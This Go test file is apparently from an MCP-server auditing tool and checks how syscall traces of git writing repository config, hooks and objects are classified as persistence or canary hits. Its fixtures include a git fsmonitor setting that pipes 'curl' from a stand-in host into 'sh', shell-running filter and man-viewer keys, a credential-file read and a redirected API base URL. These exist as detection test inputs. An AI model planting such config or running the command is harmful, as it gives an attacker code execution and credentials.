package classify

import (
	"path"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/mcp-audit/mcp-audit/internal/canary"
	m "github.com/mcp-audit/mcp-audit/internal/manifest"
	"github.com/mcp-audit/mcp-audit/internal/trace"
)

// TestGitOwnRepositoryFiles: the image's git writing a repository's
// config (through its lock file) that names no program, and creating its
// hooks directory, for a command that sets no configuration, is the
// workspace's; a config that names a program (set through variables no
// trace shows) or one not read back, the same writes by git config, git
// -c with a key that may run something (not one that sets a name), an
// alias's git config child, a git-core script, a look-alike git or the
// server itself, and a hook git writes, stay persistence.
func TestGitOwnRepositoryFiles(t *testing.T) {
	const (
		node = `11    1795973127.700001 execve("/usr/local/bin/node", ["node", "/srv/mcp/node_modules/pkg/dist/index.js"], 0x7f /* 5 vars */) = 0` + "\n"
		fork = `11    1795973127.700100 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 20` + "\n"
		sub  = `20    1795973127.700250 clone(child_stack=NULL, flags=SIGCHLD, child_tidptr=0x7f) = 21` + "\n"
	)
	git := func(pid, path string, args ...string) string {
		return pid + `    1795973127.700200 execve("` + path + `", ["git", "` + strings.Join(args, `", "`) + `"], 0x7f /* 5 vars */) = 0` + "\n"
	}
	writes := func(pid string) string {
		return pid + `    1795973127.700300 mkdir("/home/dev/workspace/.git/hooks", 0777) = 0` + "\n" +
			pid + `    1795973127.700400 openat(AT_FDCWD</home/dev/workspace>, "/home/dev/workspace/.git/config.lock", O_RDWR|O_CREAT|O_EXCL, 0666) = 4</home/dev/workspace/.git/config.lock>` + "\n" +
			pid + `    1795973127.700500 rename("/home/dev/workspace/.git/config.lock", "/home/dev/workspace/.git/config") = 0` + "\n"
	}
	hook := `20    1795973127.700600 openat(AT_FDCWD</home/dev/workspace>, "/home/dev/workspace/.git/hooks/pre-commit", O_WRONLY|O_CREAT|O_TRUNC, 0755) = 5</home/dev/workspace/.git/hooks/pre-commit>` + "\n"
	const (
		plain   = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote \"origin\"]\n\turl = https://git.example/r.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n"
		monitor = "[core]\n\tbare = false\n\tfsmonitor = curl -s https://x.example/p | sh\n"
		filter  = "[core]\n\tbare = false\n[filter \"lfs\"]\n\tsmudge = sh -c x\n"
	)
	all := []string{"<workspace>/.git/config", "<workspace>/.git/hooks"}
	config := []string{"<workspace>/.git/config"}
	for _, tc := range []struct {
		name, trace, left string // left: the config read back after the run, "-" for none
		want              []string
	}{
		{"git init", node + fork + git("20", "/usr/bin/git", "init") + writes("20"), plain, nil},
		{"git init leaving a program in the config", node + fork + git("20", "/usr/bin/git", "init") + writes("20"), monitor, config},
		{"git clone leaving a filter", node + fork + git("20", "/usr/bin/git", "clone", "https://git.example/r.git") + writes("20"), filter, config},
		{"a config not read back", node + fork + git("20", "/usr/bin/git", "init") + writes("20"), "-", config},
		{"git's own child", node + fork + git("20", "/usr/bin/git", "pull") + sub + git("21", "/usr/lib/git-core/git", "fetch", "origin") + writes("21"), plain, nil},
		{"an alias's git config child", node + fork + git("20", "/usr/bin/git", "st") + sub + git("21", "/usr/lib/git-core/git", "config", "core.fsmonitor", "x") + writes("21"), plain, all},
		{"a git-core script", node + fork + git("20", "/usr/bin/git", "filter-branch") + sub + git("21", "/usr/lib/git-core/git-filter-branch", "--env-filter", "x") + writes("21"), plain, all},
		{"git config", node + fork + git("20", "/usr/bin/git", "config", "core.fsmonitor", "x") + writes("20"), plain, all},
		{"git -c", node + fork + git("20", "/usr/bin/git", "-c", "core.hooksPath=/tmp/h", "init") + writes("20"), plain, all},
		{"git -c joined", node + fork + git("20", "/usr/bin/git", "-ccore.fsmonitor=x", "init") + writes("20"), plain, all},
		{"git -c a filter", node + fork + git("20", "/usr/bin/git", "-c", "user.name=x", "-c", "Filter.lfs.smudge=sh", "init") + writes("20"), plain, all},
		{"git -c with no key", node + fork + git("20", "/usr/bin/git", "-c", "init") + writes("20"), plain, all},
		{"git -c an identity", node + fork + git("20", "/usr/bin/git", "-c", "user.name=x", "-c", "user.email=x@x.example", "-c", "commit.gpgsign=false", "init") + writes("20"), plain, nil},
		{"a template", node + fork + git("20", "/usr/bin/git", "init", "--template=/tmp/t") + writes("20"), plain, all},
		{"a look-alike git", node + fork + git("20", "/tmp/bin/git", "init") + writes("20"), plain, all},
		{"the server itself", node + writes("11"), plain, all},
		{"a failed clone's cleanup", node + fork + git("20", "/usr/bin/git", "clone", "https://git.example/r.git", "reports") +
			`20    1795973127.700700 rmdir("/home/dev/workspace/reports/.git/hooks") = 0` + "\n", "-", nil},
		{"the server's removal", node + `11    1795973127.700700 rmdir("/home/dev/workspace/reports/.git/hooks") = 0` + "\n", "-",
			[]string{"<workspace>/reports/.git/hooks"}},
		{"a hook git writes", node + fork + git("20", "/usr/bin/git", "init") + hook, "-", []string{"<workspace>/.git/hooks/pre-commit"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tr, err := trace.Parse(strings.NewReader(tc.trace), trace.Limits{})
			if err != nil {
				t.Fatal(err)
			}
			in := Input{Layout: layout, Events: tr.Events}
			if tc.left != "-" {
				in.Written = []WrittenFile{{Path: "/home/dev/workspace/.git/config", Data: []byte(tc.left)}}
			}
			var got []string
			for _, p := range Classify(in).Phases {
				for _, f := range p.Files {
					if f.Category == m.CatShellRC && !strings.HasSuffix(f.Path, ".lock") {
						got = append(got, f.Path)
					}
				}
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("persistence (-want +got):\n%s", diff)
			}
		})
	}
}

// TestGitStoresTheWorkTree: the image's git storing the workspace .env's
// value in the repository's objects, or putting the tracked .env back as
// planted (a reset, a stash), is the repository doing what it was asked;
// an environment variable's value in git's objects, a .env git leaves
// changed, the server writing either, or a git config run, are hits; git
// reading a decoy stays one.
func TestGitStoresTheWorkTree(t *testing.T) {
	t0 := time.Unix(100, 0)
	cs := canary.Generate(nil)
	_, envValue, _ := strings.Cut(cs.EnvList()[0], "=")
	dotenv := []byte(decoy(cs, canary.WorkspaceEnv))
	const head = `11 101.1 execve("/usr/local/bin/node", ["node", "/srv/mcp/index.js"], 0x7f /* 5 vars */) = 0
11 101.2 clone(child_stack=NULL, flags=SIGCHLD, child_tidptr=0x7f) = 20
`
	writes := func(pid string) string {
		return pid + ` 101.4 openat(AT_FDCWD</home/dev/workspace>, "/home/dev/workspace/.git/objects/ea/1f2e", O_WRONLY|O_CREAT|O_EXCL, 0444) = 4</home/dev/workspace/.git/objects/ea/1f2e>
` + pid + ` 101.5 openat(AT_FDCWD</home/dev/workspace>, "/home/dev/workspace/.env", O_WRONLY|O_CREAT|O_TRUNC, 0644) = 5</home/dev/workspace/.env>
` + pid + ` 101.6 openat(AT_FDCWD</home/dev>, "/home/dev/.netrc", O_RDONLY) = 6</home/dev/.netrc>
`
	}
	stash := head + `20 101.3 execve("/usr/bin/git", ["git", "stash", "-u"], 0x7f /* 5 vars */) = 0
` + writes("20")
	object := func(data []byte) WrittenFile {
		return WrittenFile{Path: "/home/dev/workspace/.git/objects/ea/1f2e", ModTime: t0, Data: data}
	}
	restored := WrittenFile{Path: "/home/dev/workspace/.env", ModTime: t0, Data: dotenv}
	changed := WrittenFile{Path: "/home/dev/workspace/.env", ModTime: t0, Data: append([]byte("OPENAI_BASE_URL=https://proxy.example\n"), dotenv...)}
	all := []string{"<workspace>/.env file-write", "<workspace>/.git/objects/ea/1f2e written-to-file", "~/.netrc file-read"}
	// The planted repository's objects, touched and not changed (git
	// freshens an object it already has), and one of them rewritten with
	// the .env in plain.
	// (One more planted object holds the .env as it is, so the touched
	// objects hold a decoy's value.)
	cs.Files = append(cs.Files, canary.File{Path: "<workspace>/.git/objects/0e/nv", Content: dotenv, Mode: 0o644})
	var touched, rewritten []WrittenFile
	for _, f := range cs.Files {
		if p, ok := strings.CutPrefix(f.Path, "<workspace>/.git/objects/"); ok {
			touched = append(touched, WrittenFile{Path: "/home/dev/workspace/.git/objects/" + p, ModTime: t0, Data: f.Content})
			if rewritten == nil {
				rewritten = []WrittenFile{{Path: "/home/dev/workspace/.git/objects/" + p, ModTime: t0, Data: dotenv}}
			}
		}
	}
	if len(touched) == 0 {
		t.Fatal("no planted repository")
	}
	for _, tc := range []struct {
		name, trace string
		written     []WrittenFile
		want        []string
	}{
		{"git stash", stash, []WrittenFile{object(dotenv), restored}, []string{"~/.netrc file-read"}},
		{"an environment variable in git's objects", stash, []WrittenFile{object([]byte("blob " + envValue)), restored},
			[]string{"<workspace>/.git/objects/ea/1f2e written-to-file", "~/.netrc file-read"}},
		{"a .env git leaves changed", stash, []WrittenFile{object(dotenv), changed}, []string{"<workspace>/.env file-write", "~/.netrc file-read"}},
		{"git -c an identity, stash", head + `20 101.3 execve("/usr/bin/git", ["git", "-c", "user.name=x", "-c", "core.quotepath=off", "stash", "-u"], 0x7f /* 5 vars */) = 0
` + writes("20"), []WrittenFile{object(dotenv), restored}, []string{"~/.netrc file-read"}},
		{"git -c a program, stash", head + `20 101.3 execve("/usr/bin/git", ["git", "-c", "core.fsmonitor=x", "stash", "-u"], 0x7f /* 5 vars */) = 0
` + writes("20"), []WrittenFile{object(dotenv), restored}, all},
		{"git -c a man viewer, stash", head + `20 101.3 execve("/usr/bin/git", ["git", "-c", "man.x.cmd=sh", "stash", "-u"], 0x7f /* 5 vars */) = 0
` + writes("20"), []WrittenFile{object(dotenv), restored}, all},
		{"git stash, then the server writing through a link", stash + `11 101.7 link("/home/dev/workspace/.git/objects/ea/1f2e", "/home/dev/workspace/h") = 0
11 101.8 openat(AT_FDCWD</home/dev/workspace>, "/home/dev/workspace/h", O_WRONLY|O_TRUNC) = 7</home/dev/workspace/h>
`, []WrittenFile{object(dotenv), restored}, []string{"<workspace>/.git/objects/ea/1f2e written-to-file", "~/.netrc file-read"}},
		{"planted objects touched", head, touched, nil},
		{"a planted object rewritten", head, rewritten, []string{"<workspace>/.git/objects/" + path.Dir(strings.TrimPrefix(rewritten[0].Path, "/home/dev/workspace/.git/objects/")) + "/* written-to-file"}},
		{"git config", head + `20 101.3 execve("/usr/bin/git", ["git", "config", "user.name", "x"], 0x7f /* 5 vars */) = 0
` + writes("20"), []WrittenFile{object(dotenv), restored}, all},
		{"the server", head + writes("11"), []WrittenFile{object(dotenv), restored}, all},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var got []string
			out := Classify(Input{Layout: layout, Events: parse(t, tc.trace), Canaries: cs,
				Windows: []Window{{Name: m.PhaseStartup, Start: t0}}, Written: tc.written,
			})
			for _, p := range out.Phases {
				for _, h := range p.Canaries {
					got = append(got, strings.SplitN(h.Evidence, " ", 2)[0]+" "+h.How)
				}
			}
			slices.Sort(got)
			got = slices.Compact(got)
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("hits (-want +got):\n%s", diff)
			}
			// The store is git's own exactly when its process wrote the
			// object (the differential comparison leaves those files out).
			own := strings.Contains(tc.trace, `"stash", "-u"`) && !strings.Contains(tc.trace, "fsmonitor") && !strings.Contains(tc.trace, "man.x") && !strings.Contains(tc.trace, `link(`)
			if got := out.ReadBack.Kept["<workspace>/.git/objects/0e/nv"]; got != (tc.name == "planted objects touched") {
				t.Errorf("a planted object as planted kept: %v", got)
			}
			if got := out.ReadBack.Kept["<workspace>/.git/objects/ea/1f2e"]; got != own {
				t.Errorf("object in git's own store: %v, want %v (%v)", got, own, out.ReadBack.Kept)
			}
		})
	}
}
